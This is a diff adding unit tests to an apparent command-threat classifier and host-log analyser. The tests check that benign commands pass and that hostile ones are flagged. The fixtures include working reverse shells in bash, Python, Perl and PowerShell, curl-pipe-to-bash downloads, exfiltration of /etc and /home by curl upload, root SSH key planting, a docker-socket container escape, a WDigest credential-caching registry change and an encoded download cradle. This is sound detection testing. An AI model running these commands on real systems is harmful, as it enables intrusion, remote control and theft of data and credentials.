@@ -80,6 +80,111 @@ test('what Windows, Defender, Office, browsers and management start by themselve
   expect(result.verdict).not.toBe('malicious');
 });
 
+test.each([
+  ['a switch of curl', 'curl -sSf https://api.example.test/health', 'command/proxy'],
+  ['a question about an account', 'net user anna /domain', 'command/account-removed'],
+  ['an account that is opened again', 'net user anna /active:yes', 'command/account-removed'],
+  ['the mode of a file of keys', 'chmod 600 ~/.ssh/authorized_keys', 'command/authorized-keys'],
+  ['an address with a word in it', 'mshta https://captcha-check.example/v.mp3', 'command/phishing-link'],
+  ['the name of a file', 'docker compose -f confluence.yml up -d', 'command/repositories'],
+  ['the language of a browser', 'chrome.exe --type=renderer --lang=de --enable-features=X', 'command/language'],
+  ['an archive that is sent away', 'tar czf - /etc /home | curl -T - http://198.51.100.7/up', 'command/download'],
+  ['a copy to another host', 'scp -r report.pdf anna@backup.example.test:/srv/', 'command/download'],
+  ['a copy to another host', 'rsync -a ./site/ deploy@web1.example.test:/var/www/', 'command/download'],
+  [
+    'a scanner that is lent the socket',
+    'docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image app',
+    'command/container-escape',
+  ],
+])('%s is not taken for an act: %s', (_what, command, rule) => {
+  expect(classifyCommand(command).signs.filter((sign) => sign.rule === rule && !sign.is_mention)).toEqual([]);
+});
+
+test.each([
+  ['./ssf -D 9000 198.51.100.7', 'command/proxy'],
+  ['/tmp/ssfd -p 8000', 'command/proxy'],
+  ['net user anna /active:no', 'command/account-removed'],
+  ['net user anna NewPass1', 'command/account-removed'],
+  ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', 'command/authorized-keys'],
+  ['powershell -w hidden -c x # I am not a robot: captcha 1234', 'command/phishing-link'],
+  ['scp anna@198.51.100.7:/srv/x.sh /tmp/', 'command/download'],
+  ['tar czf - /etc | curl -T - http://198.51.100.7/up', 'command/streamed-out'],
+  ['scp -r /srv/data eve@198.51.100.7:/tmp/', 'command/sent-out'],
+  ['docker -H unix:///var/run/docker.sock run -v /:/mnt alpine chroot /mnt', 'command/container-escape'],
+])('the act itself is still told: %s', (command, rule) => {
+  const told = classifyCommand(command).signs.filter((sign) => sign.rule === rule && !sign.is_mention);
+  expect(told).toHaveLength(1);
+});
+
+test('a log of one service that is emptied is no grave act, the log of the system is', () => {
+  expect(gravest('truncate -s 0 /var/log/nginx/access.log')).toBe(rank('medium'));
+  expect(gravest('truncate -s 0 /var/log/auth.log')).toBe(rank('high'));
+});
+
+const SHELLS = [
+  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+  `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+  `perl -e 'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));open(STDIN,">&S");exec("/bin/sh -i");'`,
+  `powershell -nop -c "$c=New-Object Net.Sockets.TCPClient('198.51.100.7',443);$s=$c.GetStream();while(($i=$s.Read($b,0,9)) -ne 0){$r=(iex $d 2>&1|Out-String)}"`,
+];
+const started = async (command: string) => {
+  const watch = createHostWatch({});
+  const event = normalizeEvent(
+    {
+      Channel: 'Microsoft-Windows-Sysmon/Operational',
+      EventID: 1,
+      Hostname: 'web1',
+      ProcessGuid: '{1}',
+      Image: '/usr/bin/bash',
+      CommandLine: command,
+    },
+    'line 1',
+  );
+  if (event) watch.note(event);
+  const seen = { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } };
+  return assessHosts(watch, { source: 'e', checked: seen, not_checked: [], data_versions: {} });
+};
+
+test.each([
+  ...SHELLS.map((command) => [command, 'high', 'hands a shell to another host']),
+  ['curl -s http://198.51.100.7/x.sh | bash', 'medium', 'runs what it fetches from a bare address'],
+  ['bash -c "$(wget -qO- http://198.51.100.7/x.sh)"', 'medium', 'runs what it fetches from a bare address'],
+  [
+    'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default',
+    'low',
+    'gives the rights over a whole cluster',
+  ],
+])('one act is judged alike in a history, in a log and in an event: %s', async (command, severity, title) => {
+  const typed = judgeArtifact(readArtifact(Buffer.from(`ls\n${command}\n`), '.bash_history'));
+  const logged = judgeArtifact(
+    readArtifact(Buffer.from(`Nov 28 10:00:01 web1 CRON[812]: (root) CMD (${command})\n`), 'cron.log'),
+  );
+  const { result } = await started(command);
+  for (const { findings } of [typed, logged, result])
+    expect(findings.filter((each) => each.title.includes(title)).map((each) => each.severity)).toEqual([severity]);
+});
+
+test.each([
+  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();', 'command/rundll32-script'],
+  [
+    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
+    'command/wdigest-on',
+  ],
+  [
+    `powershell -w hidden -e ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", 'utf16le').toString('base64')}`,
+    'command/cradle-from-address',
+  ],
+])('%s is grave by itself', async (command, rule) => {
+  const { result } = await started(command);
+  expect(result.findings[0]).toMatchObject({ severity: 'high', rule });
+});
+
+test('a command that only leaves the profile out passes by no policy', () => {
+  const { signs } = classifyCommand('powershell -nop -c Get-Date');
+  expect(signs.map(({ rule }) => rule)).toContain('command/powershell-quiet');
+  expect(signs.map(({ rule }) => rule)).not.toContain('command/powershell-flags');
+});
+
 test('what intruders do stays accused', () => {
   expect(linesOf(INTRUDERS).filter((command) => gravest(command) < rank('medium'))).toEqual([]);
   expect(linesOf(INTRUDERS_QUIET).filter((command) => gravest(command) < rank('low'))).toEqual([]);
